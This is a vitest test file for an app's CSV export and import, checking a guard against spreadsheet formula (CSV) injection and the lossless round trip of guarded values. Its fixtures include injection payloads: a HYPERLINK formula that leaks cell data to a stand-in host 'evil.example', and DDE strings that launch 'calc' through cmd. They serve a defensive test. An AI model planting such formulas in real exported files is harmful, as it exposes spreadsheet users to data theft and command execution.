import { parse } from "csv-parse/sync";
import { asc, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { items } from "../../../db/schema/collections.ts";
import { signInAdmin } from "../../../test/accounts.ts";
import { buildTestApp, type TestApp } from "../../../test/build-test-app.ts";
import {
  caller,
  exportCsv,
  type Headers,
  importCsv,
  makePlace,
  postCsv,
} from "../../../test/fixtures/csv-test-helpers.ts";
import { guardFormula, unguardFormula } from "./csv-formulas.ts";

/**
 * No exported cell is a formula a spreadsheet would run (OWASP CSV injection; decision 113), and
 * the guard comes off on import, so the round trip still gives back every value as it was.
 */

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];
const names: Record<string, string> = { "=": "=", "+": "+", "-": "-", "@": "@", "\t": "tab", "\r": "CR" };

describe("the formula guard, cell by cell", () => {
  it.each(TRIGGERS.map((c) => [names[c], c]))(
    "a cell beginning with %s is written after a ' and read back",
    (_name, c) => {
      const value = `${c}HYPERLINK("https://evil.example","open")`;
      expect(guardFormula(value)).toBe(`'${value}`);
      expect(unguardFormula(guardFormula(value))).toBe(value);
    },
  );

  it("escapes a value that really begins with a ' before a trigger or another '", () => {
    for (const value of ["'=1+2", "''=1+2", "'''", "''", "'-x", "'@home", "'\tx"]) {
      expect(guardFormula(value)).toBe(`'${value}`);
      expect(unguardFormula(guardFormula(value))).toBe(value);
    }
  });

  it("leaves other cells, plain numbers and lone apostrophes as they are", () => {
    for (const value of ["", "Agaseke", "'Tis the season", "'", "-2.596", "+250", "1e-7", "-1.5E3", "a=b"]) {
      expect(guardFormula(value)).toBe(value);
      expect(unguardFormula(value)).toBe(value);
    }
    expect(guardFormula("-2+3")).toBe("'-2+3");
    expect(guardFormula("-2.5 cm")).toBe("'-2.5 cm");
  });
});

let t: TestApp;
let admin: Headers;
const TITLES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  "+1+2",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=a title that begins with a quote and an equals sign",
  "''double quoted",
  "'Tis the season",
];

beforeAll(async () => {
  t = await buildTestApp();
  admin = (await signInAdmin(t.app)).headers;
  const { collection } = await makePlace(t, admin);
  const call = caller(t, admin);
  for (const [i, title] of TITLES.entries()) {
    const made = await call("POST", "/api/admin/repository/items/", {
      type: "document",
      collection: collection.id,
      slug: `formula-${i}`,
      dc: { title: [title], creator: ["=1+1", "Plain maker"], subject: ["-dash first"] },
      place_name: "@Huye",
      latitude: -2.596,
      longitude: 29.7394,
      translations: { fr: { title: [`=fr ${i}`] } },
    });
    expect(made.statusCode, made.body).toBe(201);
  }
}, 300_000);
afterAll(async () => t?.close());

const cellsOf = (csv: string): string[][] => parse(csv, { bom: true });

describe("the export guards formulas, the import takes the guard off", () => {
  it("writes no cell a spreadsheet would run; numbers stay numbers", async () => {
    const [header, ...rows] = cellsOf(await exportCsv(t, admin));
    const column = (name: string) => header!.indexOf(name);
    for (const row of rows) {
      for (const cell of row) {
        const first = cell[0];
        if (first && TRIGGERS.includes(first)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
      }
      expect(row[column("latitude")]).toBe("-2.596");
      expect(row[column("dc_creator")]).toBe("'=1+1|Plain maker");
      expect(row[column("dc_subject")]).toBe("'-dash first");
      expect(row[column("place")]).toBe("'@Huye");
    }
    // `|` inside a value is written `\|` (repeatable values share a cell).
    const titles = rows.map((row) => row[column("dc_title")]!.replace(/\\\|/g, "|"));
    expect(titles).toEqual([
      `'${TITLES[0]}`,
      `'${TITLES[1]}`,
      `'${TITLES[2]}`,
      `'${TITLES[3]}`,
      `'${TITLES[4]}`,
      `'${TITLES[5]}`,
      TITLES[6],
    ]);
    expect(rows.map((row) => row[column("dc_title@fr")])).toEqual(TITLES.map((_, i) => `'=fr ${i}`));
  });

  it("guards tab and carriage return at the start of a cell too", async () => {
    // No form keeps leading white space (values are trimmed); a value written by other means may.
    await t.app.db
      .update(items)
      .set({ dc_description: ["\t=1+2"], dc_source: ["\r=3+4"] })
      .where(eq(items.slug, "formula-1"));
    const [header, ...rows] = cellsOf(await exportCsv(t, admin));
    const row = rows.find((cells) => cells[header!.indexOf("slug")] === "formula-1")!;
    expect(row[header!.indexOf("dc_description")]).toBe("'\t=1+2");
    expect(row[header!.indexOf("dc_source")]).toBe("'\r=3+4");
    await t.app.db
      .update(items)
      .set({ dc_description: [], dc_source: [] })
      .where(eq(items.slug, "formula-1"));
  });

  it("re-imports its export as unchanged, and into an empty repository with every value as it was", async () => {
    const before = await t.app.db.select().from(items).orderBy(asc(items.id));
    const csv = await exportCsv(t, admin);
    const dry = (await postCsv(t, admin, csv, "?dry_run=1")).json();
    expect(dry.summary).toMatchObject({ rows: TITLES.length, unchanged: TITLES.length, errors: 0 });
    expect(await importCsv(t, admin, csv)).toMatchObject({ status: "done", total: 0 });
    expect(await t.app.db.select().from(items).orderBy(asc(items.id))).toEqual(before);

    const fresh = await buildTestApp();
    try {
      const freshAdmin = (await signInAdmin(fresh.app)).headers;
      await makePlace(fresh, freshAdmin);
      expect(await importCsv(fresh, freshAdmin, csv)).toMatchObject({ status: "done", done: TITLES.length });
      const moved = await fresh.app.db
        .select({ title: items.dc_title, creator: items.dc_creator, place: items.place_name })
        .from(items)
        .orderBy(asc(items.id));
      expect(moved.map((row) => row.title[0])).toEqual(TITLES);
      expect(moved[0]).toMatchObject({ creator: ["=1+1", "Plain maker"], place: "@Huye" });
      expect(await exportCsv(fresh, freshAdmin)).toBe(csv);
    } finally {
      await fresh.close();
    }
  });

  it("reads a hand-made file's guarded and unguarded cells alike", async () => {
    const csv = await exportCsv(t, admin);
    // The same title without its guard (as a spreadsheet saves a cell it showed as text).
    const unguarded = csv.replace(`'+1+2`, "+1+2");
    expect(unguarded).not.toBe(csv);
    const dry = (await postCsv(t, admin, unguarded, "?dry_run=1")).json();
    expect(dry.summary).toMatchObject({ unchanged: TITLES.length, errors: 0 });
  });
});
